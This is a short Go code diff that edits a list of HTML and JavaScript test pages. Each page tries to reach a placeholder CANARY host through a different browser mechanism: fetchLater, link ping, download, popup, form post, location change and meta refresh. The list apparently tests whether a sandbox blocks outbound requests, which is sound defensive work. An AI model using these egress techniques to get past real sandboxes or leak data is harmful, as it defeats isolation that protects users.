@@ -86,7 +86,7 @@ var attacks = []attack{
 	{name: "fetchLater", page: `<script>{try{fetchLater("https://CANARY/a", {activateAfter: 0})}catch{}}</script>`, quiet: true},
 	{name: "ping", page: `<iframe name=ping></iframe><a id=ping href="about:blank" target=ping ping="http://CANARY/a">a</a><script>document.getElementById("ping").click()</script>`},
 	{name: "download", page: `<iframe srcdoc='<a id=a href="http://CANARY/a" download>a</a><script>document.getElementById("a").click()</script>'></iframe>`},
-	{name: "popup", page: `<script>open("http://CANARY/a")</script>`},
+	{name: "popup", page: `<script>open("http://CANARY/a")</script>`, quiet: true}, // no other window opens at all
 	{name: "form", page: `<iframe name=form></iframe><form id=form method=post action="http://CANARY/a" target=form><input name=a></form><script>document.getElementById("form").submit()</script>`},
 	{name: "location", page: `<iframe srcdoc='<script>location = "http://CANARY/a"</script>'></iframe>`},
 	{name: "meta refresh", page: `<iframe srcdoc='<meta http-equiv=refresh content="0;url=http://CANARY/a">'></iframe>`},
